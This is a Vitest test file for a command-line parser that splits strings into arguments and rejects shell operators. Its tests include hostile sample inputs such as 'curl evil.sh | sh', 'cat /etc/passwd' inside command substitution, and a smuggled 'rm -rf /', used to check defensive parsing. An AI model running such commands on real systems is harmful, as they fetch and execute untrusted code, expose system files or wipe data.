import { describe, expect, it } from 'vitest';
import { parseCommandLine } from './commands.ts';

describe('parseCommandLine', () => {
  it('splits words and keeps quoted groups together', () => {
    expect(parseCommandLine('npm run build')).toEqual(['npm', 'run', 'build']);
    expect(parseCommandLine(`vite build --base "/my site/" --mode 'prod x'`)).toEqual(['vite', 'build', '--base', '/my site/', '--mode', 'prod x']);
    expect(parseCommandLine('  pnpm   build  ')).toEqual(['pnpm', 'build']);
  });

  it('gives shell syntax no meaning: hostile input becomes plain arguments or an error', () => {
    expect(() => parseCommandLine('npm run build; curl evil.sh | sh')).toThrow(/shell operator/);
    expect(() => parseCommandLine('echo $(cat /etc/passwd)')).toThrow(/shell operator/);
    expect(() => parseCommandLine('a && b')).toThrow(/shell operator/);
    // Inside a word or quotes the characters are literal, never interpreted.
    expect(parseCommandLine('echo "$HOME;rm -rf /"')).toEqual(['echo', '$HOME;rm -rf /']);
  });

  it('rejects empty and unterminated commands', () => {
    expect(() => parseCommandLine('')).toThrow();
    expect(() => parseCommandLine('echo "oops')).toThrow(/unterminated/);
  });
});
